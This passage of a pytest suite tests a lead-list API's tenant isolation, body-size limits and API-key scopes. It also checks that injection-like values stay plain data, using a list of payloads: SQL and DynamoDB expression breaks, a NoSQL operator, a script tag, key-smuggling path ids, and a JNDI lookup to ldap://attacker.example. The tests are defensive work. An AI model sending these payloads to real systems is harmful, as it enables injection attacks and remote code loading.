    ]


@pytest.mark.parametrize(("route", "who"), _shared_params())
def test_a_named_member_or_an_admin_may_use_the_lead_list(world, route, who):
    status, body, _ = send(caller(who), row(route).legit(world), route)
    ok(status, body)
    if route == f"GET {LEADS}":
        names = {x["name"] for x in body["leadLists"]}
        assert {f"{SECRET} companies", f"{SECRET} persons"} <= names


@pytest.mark.parametrize("route", sorted(OWNER_ONLY))
def test_a_shared_member_cannot_reshare_or_delete_the_lead_list(world, route):
    before = state(world)
    status, body, _ = send(caller("shared"), row(route).legit(world), route)
    assert status == 403 and body["code"] == "FORBIDDEN", body
    assert_unchanged(before, state(world))


# 3. No token, or no organization in it -----------------------------------------------------------

NO_ORG = {
    "no-token": None,
    "no-org-claim": {"sub": "alice", "org_role": "admin"},
    "empty-org-claim": {"sub": "alice", "org_id": "", "org_role": "admin"},
}


@pytest.mark.parametrize("who", NO_ORG)
@pytest.mark.parametrize("route", ROUTES, ids=_route_id)
def test_no_token_or_no_organization_is_401(world, route, who):
    req = row(route).legit(world)
    before = state(world)
    status, body, _ = send(Api(NO_ORG[who]), req, route)
    assert_error(status, body, 401, "UNAUTHORIZED")
    assert_no_secret(world, req, body)
    assert_unchanged(before, state(world))


# 4. Bodies over 1 MiB ----------------------------------------------------------------------------


def _padded(req: Req, size: int) -> str:
    text = json.dumps(req.body) if req.body is not None else ""
    assert len(text.encode()) < size
    return text + " " * (size - len(text.encode()))  # still the same JSON value


@pytest.mark.parametrize("route", ROUTES, ids=_route_id)
def test_a_body_over_one_mib_is_413(world, route):
    req = row(route).legit(world)
    raw = _padded(req, MIB + 1)
    before = state(world)
    assert route_of(req) == route
    status, body, _ = caller(ROWS[route].owner).call(req.method, req.path, raw=raw, query=req.query)
    assert_error(status, body, 413, "PAYLOAD_TOO_LARGE")
    assert_unchanged(before, state(world))


@pytest.mark.parametrize(
    "route",
    [r for r in ROUTES if r in ROWS and ROWS[r].legit(PROBE).body is not None],
    ids=_route_id,
)
def test_a_body_of_exactly_one_mib_is_accepted(world, route):
    req = row(route).legit(world)
    status, body, _ = caller(ROWS[route].owner).call(
        req.method, req.path, raw=_padded(req, MIB), query=req.query
    )
    ok(status, body)


# 5. Values that look like expressions or injections stay data ------------------------------------

INJECTIONS = {
    "dynamodb-expression": "#pk = :v OR attribute_exists(pk)",
    "sql-comment": "' OR 1=1 --",
    "jndi-lookup": "${jndi:ldap://attacker.example/a}",
    "nul-byte": "\u0000",
    "value-placeholder": ":v0",
    "name-placeholder": "#n0",
    "clause-break": ") OR (#n0 = :v0",
    "nosql-operator": '{"$ne": null}',
    "script-tag": "<script>alert(1)</script>",
    "format-string": "%s%n{0}",
}

# (search kind, filter field): one pushdown or evaluation path each. An `exclude_` probe runs
# within the US matches and must exclude nothing; the others must match nothing.
PROBES = {
    "prospects-keywords": ("prospects", "keywords"),
    "prospects-job_titles": ("prospects", "job_titles"),
    "prospects-countries": ("prospects", "countries"),
    "prospects-exclude_keywords": ("prospects", "exclude_keywords"),
    "companies-keywords": ("companies", "keywords"),
    "companies-countries": ("companies", "countries"),
    "companies-exclude_countries": ("companies", "exclude_countries"),
}


def _probe_filter(field_name: str, *values: str) -> dict[str, Any]:
    if field_name.startswith("exclude_"):
        return {"countries": ["United States"], field_name: list(values)}
    return {field_name: list(values)}


def _search(kind: str, flt: dict[str, Any]) -> dict[str, Any]:
    status, page, _ = send(caller("owner"), Req("POST", f"/api/v1/search/{kind}", {"filter": flt}))
    assert status == 200, page
    return page


def _benign(w: World, field_name: str) -> str:
    """A value of the catalog's that the probe's field does match (for the control)."""
    us = next(p for p in w.person_records if p["country"] == "United States")
    return {
        "keywords": us["companyName"],
        "job_titles": us["title"],
        "countries": "United States",
        "exclude_keywords": us["companyName"],
        "exclude_countries": "United States",
    }[field_name]


@pytest.mark.parametrize("probe", PROBES)
def test_a_real_value_does_match(world, probe):
    """The control: the probes below can see matches, so their zero counts mean something."""
    kind, field_name = PROBES[probe]
    page = _search(kind, _probe_filter(field_name, _benign(world, field_name)))
    if field_name.startswith("exclude_"):
        assert page["total"] < world.us_totals[kind]
    else:
        assert page["total"] > 0


@pytest.mark.parametrize("probe", PROBES)
def test_injection_like_search_values_stay_data(world, probe):
    """Every value at once (a field's values are OR-ed): none may match, or, excluded, none may
    exclude anything; the search keeps them verbatim."""
    kind, field_name = PROBES[probe]
    flt = _probe_filter(field_name, *INJECTIONS.values())
    page = _search(kind, flt)
    expected = world.us_totals[kind] if field_name.startswith("exclude_") else 0
    if page["total"] != expected:  # name the values that did match
        culprits = [
            name
            for name, value in INJECTIONS.items()
            if _search(kind, _probe_filter(field_name, value))["total"] != expected
        ]
        pytest.fail(f"{probe}: {culprits} matched; total {page['total']}, expected {expected}")
    if expected == 0:
        assert page["results"] == [], page
    head = searches.get(ORG_A, page["searchId"], int(time.time()))
    assert head is not None and head["filter"] == flt


@pytest.mark.parametrize("value", INJECTIONS.values(), ids=list(INJECTIONS))
def test_injection_like_saved_list_values_are_kept_verbatim(world, value):
    owner = caller("owner")
    flt = {"keywords": [value], "exclude_cities": [value]}
    body = {"organizationId": ORG_A, "listName": value, "contacts_found": 0, "filter": flt}
    status, saved, _ = owner.post("/lists/save", body)
    assert status == 200, saved
    assert saved["name"] == value and saved["usedFilter"] == flt, saved
    status, read, _ = owner.get(f"/lists/{saved['id']}")
    assert status == 200 and read["name"] == value and read["usedFilter"] == flt, read
    # The name is a name whatever it looks like: the same value is now taken.
    status, again, _ = owner.post("/lists/save", body)
    assert_error(status, again, 409, "CONFLICT")


def test_injection_like_saved_list_filter_matches_nothing(world):
    """All the values in one filter (OR-ed): the refresh finds no member. (The world's US list
    has members, so a refresh here can find some.)"""
    owner = caller("owner")
    flt = {"keywords": list(INJECTIONS.values())}
    body = {"organizationId": ORG_A, "listName": "injections", "contacts_found": 5, "filter": flt}
    status, saved, _ = owner.post("/lists/save", body)
    assert status == 200, saved
    status, refreshed, _ = owner.post(f"/lists/refresh/{saved['id']}")
    assert status == 200, refreshed
    assert refreshed["contactsNum"] == 0 and refreshed["matchedContactsNum"] == 0, refreshed
    assert refreshed["usedFilter"] == flt
    status, page, _ = owner.get(f"/lists/{saved['id']}/contacts")
    assert status == 200 and page["contacts"] == [], page


# Path ids are values too: a list id must be a UUID (400); GET /lists/{id} reads any other key as
# an organization id, which names none of the caller's lists (404).
# A client sends them percent-encoded (a raw "#" would end the URL's path), as API Gateway's
# rawPath keeps them.
PATH_ID_ANSWERS = {
    f"{LEADS}/": (400, "BAD_REQUEST"),
    "/lists/": (400, "BAD_REQUEST"),
    "/api-keys/": (400, "BAD_REQUEST"),
    "/webhooks/": (400, "BAD_REQUEST"),
}
KEY_ROUTE = ("GET", "/lists/{id}")
PATH_IDS: dict[str, Callable[[str], str]] = {
    "dynamodb-expression": lambda real: "#pk = :v OR attribute_exists(pk)",
    "sql-comment": lambda real: "' OR 1=1 --",
    "nul-byte": lambda real: "\u0000",
    "key-suffix": lambda real: f"{real}#MEMBER#00000000-0000-4000-8000-000000000000",
    "key-prefix": lambda real: f"x#ORG#{ORG_B}#LIST#{real}",
}


def _path_params() -> list[Any]:
    return [
        pytest.param(route, label, id=f"{_route_id(route)}-{label}")
        for route in ROUTES
        if "{id}" in route
        for label in PATH_IDS
    ]


@pytest.mark.parametrize(("route", "label"), _path_params())
def test_injection_like_path_ids_name_nothing(world, route, label):
    legit = row(route).legit(world)
    found = lambdas.find_route(legit.method, legit.path)
    assert found is not None
    bad = PATH_IDS[label](found[1]["id"])
    path = found[0].path.replace("{id}", quote(bad, safe=""))
    req = Req(legit.method, path, legit.body, legit.query)
    answers = [v for prefix, v in PATH_ID_ANSWERS.items() if found[0].path.startswith(prefix)]
    if (legit.method, found[0].path) == KEY_ROUTE:
        answers = [(404, "NOT_FOUND")]
    assert answers, f"no expected answer for a bad id on {route}"
    before = state(world)
    status, body, _ = send(caller(row(route).owner), req, route)
    assert_error(status, body, *answers[0])
    assert_unchanged(before, state(world))


# 6. The other credential: API keys ---------------------------------------------------------------
# The same routes with `X-API-Key` instead of a bearer token: the authorizer's service answers for
# the key (and counts the request on the key's item, before the state is taken), then the route's
# function runs with its verdict, as API Gateway passes it on.


def key_api(secret: str | None, **headers: str) -> Api:
    from leadlists.services.authorizer import authorize

    sent = {"x-api-key": secret, **headers} if secret is not None else headers
    return Api(None, authorizer=authorize(sent))


def _scope_needed(route: str) -> str:
    from leadlists.auth import required_scope

    return required_scope(route)


@pytest.mark.parametrize("route", ROUTES, ids=_route_id)
def test_a_key_reaches_what_its_scopes_allow(world, route):
    """read: GETs, searches and exports; write: every change too; admin: keys as well. A key
    without the route's scope (or, on an owner's or creator's route, without admin) is 403 and
    changes nothing; the keys that hold it succeed (lead
    lists: A's are shared with the read and write keys' principals)."""
    req = row(route).legit(world)
    needed = _scope_needed(route)
    allowed = {"read": ("read", "write", "admin"), "write": ("write", "admin")}.get(
        needed, ("admin",)
    )
    if route in OWNER_ONLY or row(route).outsider == CREATOR:
        # A key is no list's creator or owner: only an admin-scoped key (an admin) may, the
        # others get the same 403 a member does.
        allowed = ("admin",)
    for scope in ("read", "write", "admin"):
        api = key_api(world.keys[scope])
        if scope in allowed:
            status, body, _ = send(api, req, route)
            ok(status, body)
            return  # a success may have changed the world the next key would see
        before = state(world)
        status, body, _ = send(api, req, route)
        assert_error(status, body, 403, "FORBIDDEN")
        assert_no_secret(world, req, body)
        assert_unchanged(before, state(world))
    pytest.fail(f"no key may use {route}")


BAD_KEYS: dict[str, Callable[[World], Api]] = {
    "no-credentials": lambda w: key_api(None),
    "unknown": lambda w: key_api("ll_live_" + "0" * 32 + "_" + "A" * 43),
    "tampered": lambda w: key_api(
        w.keys["admin"][:-1] + ("B" if w.keys["admin"][-1] != "B" else "C")
    ),
    "revoked": lambda w: key_api(w.keys["revoked"]),
    "expired": lambda w: key_api(w.keys["expired"]),
    "malformed": lambda w: key_api("' OR 1=1 --"),
    "both-credentials": lambda w: key_api(w.keys["admin"], authorization="Bearer x.y.z"),
}


@pytest.mark.parametrize("route", ROUTES, ids=_route_id)
def test_a_missing_unknown_revoked_or_expired_key_is_401(world, route):
    req = row(route).legit(world)
    apis = {label: make(world) for label, make in BAD_KEYS.items()}
    before = state(world)
    for label, api in apis.items():
        status, body, _ = send(api, req, route)
        assert status == 401, (label, body)
        assert_error(status, body, 401, "UNAUTHORIZED")
        assert_no_secret(world, req, body)
    assert_unchanged(before, state(world))


@pytest.mark.parametrize(
    "route", [r for r in ROUTES if any(c.label == REPLAY for c in ROWS[r].foreign)], ids=_route_id
)
def test_another_organizations_admin_key_gets_404(world, route):
    req = row(route).legit(world)
    api = key_api(world.keys["foreign"])
    before = state(world)
    status, body, _ = send(api, req, route)
    assert_error(status, body, 404, "NOT_FOUND")
    assert_no_secret(world, req, body)
    assert_unchanged(before, state(world))
